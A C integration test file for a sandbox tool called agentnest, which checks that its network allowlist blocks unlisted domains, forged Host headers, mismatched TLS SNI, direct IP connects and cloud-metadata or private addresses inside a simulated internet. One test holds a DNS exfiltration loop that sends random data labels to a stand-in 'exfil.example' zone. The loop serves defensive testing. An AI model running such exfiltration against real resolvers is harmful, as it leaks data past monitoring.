@@ -1,0 +1,263 @@
+/* tests/integration/net_internet_test.c — `agentnest run --network ...`
+ * against a fake internet, end to end through the built CLI.  The test moves
+ * into a "host" netns of its own (tests/lib/netns_fixture.h) and makes an
+ * "internet" netns wired to it by a veth pair the TEST makes (198.51.100.1 /
+ * .2), where dnsmasq is the authoritative DNS (192.0.2.53, --log-queries:
+ * every query reaching it is counted) and python3 http.server, run as
+ * nobody, serves two names on one address (pkg.example and other.example ->
+ * 203.0.113.10; a veth end 198.51.100.1 is the "host's own address").
+ * agentnest runs in the host netns, so the sandbox's egress
+ * process reaches the fake internet and the real host's routes and firewall
+ * are never touched.  Covers: an allowed name over HTTP; a non-allowed name
+ * on the same IP (DNS refused, and a forged Host header closed by the
+ * proxy); a direct IP connect refused; BL-37 (random subdomains of a
+ * non-allowed zone: zero queries reach dnsmasq); the deny set in mode full
+ * (metadata, private, the host's own address). */
+#include <criterion/criterion.h>
+#include <errno.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <unistd.h>
+#include "netns_fixture.h"
+#include "rm_tree.h"
+#include "util.h"
+
+#define CACHE "/var/cache/agentnest/images/busybox/layout"
+
+static struct {
+  int host, inet;
+  pid_t dnsmasq, http, holder;
+  char dir[64], root[96], log[128], out[128], an[4096];
+} E;
+
+static bool up(void *arg) {
+  char *log = an_test_read_file((const char *) arg, NULL);
+  bool ok = log && (strstr(log, "started") || strstr(log, "Serving HTTP"));
+  free(log);
+  return ok;
+}
+
+static void setup(void) {
+  memset(&E, 0, sizeof E);
+  if (access(CACHE, F_OK) != 0) cr_skip_test("no busybox image in %s (make images)", CACHE);
+  if (an_test_sh("command -v dnsmasq >/dev/null && test -x /usr/bin/python3 && command -v setpriv >/dev/null"))
+    cr_skip_test("dnsmasq, python3 or setpriv missing");
+  snprintf(E.an, sizeof E.an, "%s/agentnest", getenv("AN_TEST_BUILD") ? getenv("AN_TEST_BUILD") : "build");
+  E.host = nf_host_enter();
+  E.inet = nf_netns_new();
+  snprintf(E.dir, sizeof E.dir, "/tmp/an-inet-%d", (int) getpid());
+  cr_assert_eq(mkdir(E.dir, 0755), 0);
+  snprintf(E.root, sizeof E.root, "%s/store", E.dir);
+  snprintf(E.log, sizeof E.log, "%s/dnsmasq.log", E.dir);
+  snprintf(E.out, sizeof E.out, "%s/out", E.dir);
+  /* the wire between host and internet, made by the test */
+  cr_assert_eq(an_test_sh("ip link add h0 type veth peer name i0 && ip link set i0 netns /proc/%d/fd/%d && "
+                          "ip addr add 198.51.100.1/24 dev h0 && ip link set h0 up && "
+                          "ip route add 192.0.2.0/24 via 198.51.100.2 && ip route add 203.0.113.0/24 via 198.51.100.2",
+                          (int) getpid(), E.inet), 0);
+  cr_assert_eq(nf_sh(E.inet, "ip addr add 198.51.100.2/24 dev i0 && ip link set i0 up && "
+                             "ip addr add 192.0.2.53/32 dev lo && ip addr add 203.0.113.10/32 dev lo && "
+                             "ip route add default via 198.51.100.1 && "
+                             "echo 0 > /proc/sys/net/ipv4/ip_unprivileged_port_start"), 0);
+  E.dnsmasq = nf_spawn(E.inet, "/dev/null",
+      "exec dnsmasq --keep-in-foreground --conf-file=/dev/null --no-resolv --no-hosts "
+      "--bind-interfaces --listen-address=192.0.2.53 --port=53 --user=root --group=root "
+      "--pid-file=%s/pid --log-queries --log-facility=%s "
+      "--host-record=pkg.example,203.0.113.10 --host-record=other.example,203.0.113.10 "
+      "--address=/exfil.example/203.0.113.66", E.dir, E.log);
+  cr_assert(nf_wait(up, E.log, 250), "dnsmasq did not start");
+  char www[128], hlog[160];
+  snprintf(www, sizeof www, "%s/www", E.dir);
+  snprintf(hlog, sizeof hlog, "%s/http.log", E.dir);
+  cr_assert_eq(an_test_sh("mkdir -p %s && echo hello-from-pkg > %s/index.html && chmod -R a+rX %s", www, www, E.dir), 0);
+  E.http = nf_spawn(E.inet, hlog, "cd %s && exec setpriv --reuid=65534 --regid=65534 --clear-groups "
+                                  "/usr/bin/python3 -u -m http.server --bind 203.0.113.10 80", www);
+  if (!nf_wait(up, hlog, 1000)) {
+    char *l = an_test_read_file(hlog, NULL);
+    cr_assert_fail("http.server did not start: %s", l ? l : "(no log)");
+  }
+  cr_assert_eq(an_test_sh("%s --root %s image import %s --name busybox >/dev/null 2>&1", E.an, E.root, CACHE), 0);
+}
+
+static void teardown(void) {
+  if (E.root[0]) an_test_sh("%s --root %s prune --all >/dev/null 2>&1", E.an, E.root);
+  nf_stop(E.http);
+  nf_stop(E.dnsmasq);
+  if (E.dir[0]) an_test_rm_tree(E.dir);
+}
+
+TestSuite(net_internet, .init = setup, .fini = teardown, .timeout = 180);
+
+/* agentnest run --image busybox ARGS -- sh -c SCRIPT; exit status, output in E.out */
+static int run(const char *args, const char *script) {
+  return an_test_sh("%s --root %s run --image busybox --dns-upstream 192.0.2.53 %s -- sh -c '%s' > %s 2>&1",
+                    E.an, E.root, args, script, E.out);
+}
+
+static char *out(void) { return an_test_read_file(E.out, NULL); }
+
+static int queries(const char *name) {
+  char *log = an_test_read_file(E.log, NULL);
+  int n = 0;
+  for (const char *p = log; p && (p = strstr(p, "query[")); p++) {
+    const char *eol = strchr(p, '\n'), *hit = strstr(p, name);
+    if (hit && (!eol || hit < eol)) n++;
+  }
+  free(log);
+  return n;
+}
+
+/* busybox's wget and nc resolve through glibc's static NSS, which crashes
+ * in this image; its nslookup has its own resolver.  So: resolve with
+ * nslookup (the filter admits the address), then speak HTTP with nc to it. */
+#define GET(host, ip) "nslookup " host " >/dev/null 2>&1; printf \"GET / HTTP/1.0\\r\\nHost: " host \
+                      "\\r\\n\\r\\n\" | nc -w 5 " ip " 80"
+
+Test(net_internet, allowed_name_over_http_and_nothing_else_on_the_same_ip) {
+  int st = run("--network allowlist --allow pkg.example", GET("pkg.example", "203.0.113.10"));
+  char *o = out();
+  cr_assert_eq(st, 0, "allowed name over HTTP: %s", o);
+  cr_assert(strstr(o, "hello-from-pkg"), "%s", o);
+  free(o);
+  st = run("--network allowlist --allow pkg.example", "nslookup other.example");
+  o = out();
+  cr_assert_neq(st, 0, "a non-allowed name on the same IP resolved: %s", o);
+  free(o);
+  cr_assert_eq(queries("other.example"), 0, "the non-allowed name was asked upstream");
+  /* the address is admitted (pkg.example resolved), but the Host is another site's */
+  st = run("--network allowlist --allow pkg.example",
+           "nslookup pkg.example >/dev/null 2>&1; " GET("other.example", "203.0.113.10"));
+  o = out();
+  cr_assert_null(strstr(o, "hello-from-pkg"), "Host mismatch on an allowed IP answered: %s", o);
+  free(o);
+  st = run("--network allowlist --allow pkg.example", GET("203.0.113.10", "203.0.113.10"));
+  o = out();
+  cr_assert_null(strstr(o, "hello-from-pkg"), "direct IP connect answered: %s", o);
+  free(o);
+  /* never resolved: the address is not even admitted */
+  st = run("--network allowlist --allow pkg.example", "printf \"GET / HTTP/1.0\\r\\n\\r\\n\" | nc -w 5 203.0.113.10 80");
+  o = out();
+  cr_assert_null(strstr(o, "hello-from-pkg"), "an address no allowed name resolved to answered: %s", o);
+  free(o);
+}
+
+Test(net_internet, bl_37_dns_exfiltration_reaches_no_upstream) {
+  int st = run("--network allowlist --allow pkg.example",
+               "i=0; while [ $i -lt 20 ]; do "
+               "nslookup $(head -c 8 /dev/urandom | od -An -tx1 | tr -d \" \\n\").$i.exfil.example >/dev/null 2>&1 "
+               "&& exit 1; i=$((i+1)); done; nslookup exfil.example 192.0.2.53 >/dev/null 2>&1 && exit 1; "
+               "nslookup -type=a pkg.example 2>&1 | grep -q 203.0.113.10 || exit 2; exit 0");
+  char *o = out();
+  cr_assert_eq(st, 0, "an exfil name resolved, or the allowed one did not (%d): %s", st, o);
+  free(o);
+  cr_assert_eq(queries("exfil.example"), 0, "a query for the exfil zone reached the upstream");
+  cr_assert_geq(queries("pkg.example"), 1, "the upstream log counts queries");
+}
+
+Test(net_internet, deny_set_applies_in_mode_full) {
+  int st = run("--network full", GET("pkg.example", "203.0.113.10"));
+  char *o = out();
+  cr_assert(st == 0 && strstr(o, "hello-from-pkg"), "mode full reaches a public site: %s", o);
+  free(o);
+  /* metadata, RFC 1918, the host's own address (198.51.100.1: the proxy
+   * connects from the host), host loopback: never connected */
+  static const char *const denied[] = {"169.254.169.254", "10.0.0.1", "192.168.1.1", "198.51.100.1", "127.0.0.1"};
+  for (size_t i = 0; i < sizeof denied / sizeof denied[0]; i++) {
+    char script[256];
+    snprintf(script, sizeof script, "printf \"GET / HTTP/1.0\\r\\n\\r\\n\" | nc -w 3 %s 80 && echo CONNECTED", denied[i]);
+    run("--network full", script);
+    o = out();
+    cr_assert_null(strstr(o, "CONNECTED"), "%s reachable in mode full: %s", denied[i], o);
+    free(o);
+  }
+}
+
+#define PY_CACHE "/var/cache/agentnest/images/python/layout"
+
+static const char tls_server[] =
+    "import http.server, ssl, sys\n"
+    "httpd = http.server.HTTPServer(('203.0.113.10', 443), http.server.SimpleHTTPRequestHandler)\n"
+    "ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)\n"
+    "ctx.load_cert_chain(sys.argv[1], sys.argv[2])\n"
+    "httpd.socket = ctx.wrap_socket(httpd.socket, server_side=True)\n"
+    "print('Serving HTTP', flush=True)\n"
+    "httpd.serve_forever()\n";
+
+/* in the sandbox: TLS to pkg.example's address with SNI pkg.example (must
+ * answer) and with SNI other.example (the proxy must close it) */
+static const char tls_client[] =
+    "import socket, ssl, sys\n"
+    "ctx = ssl.create_default_context()\n"
+    "ctx.check_hostname = False\n"
+    "ctx.verify_mode = ssl.CERT_NONE\n"
+    "def get(sni):\n"
+    "    try:\n"
+    "        s = socket.create_connection(('pkg.example', 443), timeout=5)\n"
+    "        t = ctx.wrap_socket(s, server_hostname=sni)\n"
+    "        t.sendall(b'GET / HTTP/1.0\\r\\nHost: ' + sni.encode() + b'\\r\\n\\r\\n')\n"
+    "        data = b''\n"
+    "        while True:\n"
+    "            d = t.recv(4096)\n"
+    "            if not d: break\n"
+    "            data += d\n"
+    "        return b'hello-from-pkg' in data\n"
+    "    except Exception as e:\n"
+    "        print('refused', sni, repr(e))\n"
+    "        return False\n"
+    "ok, bad = get('pkg.example'), get('other.example')\n"
+    "print('allowed', ok, 'mismatch', bad)\n"
+    "sys.exit(0 if ok and not bad else 1)\n";
+
+Test(net_internet, allowed_name_over_https_and_sni_of_another_site_refused) {
+  if (access(PY_CACHE, F_OK) != 0) cr_skip_test("no python image in %s", PY_CACHE);
+  cr_assert_eq(an_test_sh("%s --root %s image import %s --name python >/dev/null 2>&1", E.an, E.root, PY_CACHE), 0);
+  cr_assert_eq(an_test_sh("cd %s && openssl req -x509 -newkey rsa:2048 -nodes -keyout key.pem -out cert.pem "
+                          "-days 1 -subj /CN=pkg.example -addext subjectAltName=DNS:pkg.example,DNS:other.example "
+                          ">/dev/null 2>&1 && chmod a+r key.pem cert.pem", E.dir), 0, "openssl");
+  char srv[128], cli[128], tlog[160];
+  snprintf(srv, sizeof srv, "%s/tls_server.py", E.dir);
+  snprintf(cli, sizeof cli, "%s/tls_client.py", E.dir);
+  snprintf(tlog, sizeof tlog, "%s/https.log", E.dir);
+  an_test_write_file(srv, tls_server, strlen(tls_server), 0644);
+  an_test_write_file(cli, tls_client, strlen(tls_client), 0644);
+  pid_t https = nf_spawn(E.inet, tlog, "cd %s/www && exec setpriv --reuid=65534 --regid=65534 --clear-groups "
+                                       "/usr/bin/python3 -u %s %s/cert.pem %s/key.pem", E.dir, srv, E.dir, E.dir);
+  bool started = nf_wait(up, tlog, 1000);
+  int st = an_test_sh("%s --root %s python --image python --dns-upstream 192.0.2.53 --network allowlist "
+                      "--allow pkg.example %s > %s 2>&1", E.an, E.root, cli, E.out);
+  nf_stop(https);
+  cr_assert(started, "the HTTPS server did not start");
+  char *o = out();
+  cr_assert_eq(st, 0, "HTTPS: %s", o);
+  cr_assert(strstr(o, "allowed True mismatch False"), "%s", o);
+  free(o);
+}
+
+/* every DNS decision and connection verdict is an event of the sandbox */
+Test(net_internet, dns_decisions_and_connections_are_events) {
+  char idp[160];
+  snprintf(idp, sizeof idp, "%s/id", E.dir);
+  cr_assert_eq(an_test_sh("%s --root %s create --image busybox --dns-upstream 192.0.2.53 --network allowlist "
+                          "--allow pkg.example > %s 2>&1", E.an, E.root, idp), 0);
+  char *id = an_test_read_file(idp, NULL);
+  id[strcspn(id, "\n")] = 0;
+  an_test_sh("%s --root %s exec %s -- sh -c '%s; nslookup other.example' > %s 2>&1", E.an, E.root, id,
+             GET("pkg.example", "203.0.113.10"), E.out);
+  cr_assert_eq(an_test_sh("%s --root %s events %s > %s 2>&1", E.an, E.root, id, E.out), 0);
+  char *ev = out();
+  cr_assert(strstr(ev, "\"type\":\"egress_started\""), "%s", ev);
+  const char *want[] = {"\"kind\":\"dns\",\"verdict\":\"deny\",\"name\":\"other.example\"",
+                        "\"kind\":\"dns\",\"verdict\":\"allow\",\"name\":\"pkg.example\"",
+                        "\"kind\":\"connect\",\"verdict\":\"allow\",\"name\":\"pkg.example\""};
+  for (size_t i = 0; i < 3; i++) cr_assert(strstr(ev, want[i]), "no event %s in:\n%s", want[i], ev);
+  free(ev);
+  cr_assert_eq(an_test_sh("%s --root %s network %s > %s", E.an, E.root, id, E.out), 0);
+  ev = out();
+  cr_assert(strstr(ev, "\"redirected_packets\"") && !strstr(ev, "\"redirected_packets\": 0,"),
+            "counters count the redirected connection: %s", ev);
+  free(ev);
+  an_test_sh("%s --root %s destroy %s >/dev/null 2>&1", E.an, E.root, id);
+  free(id);
+}
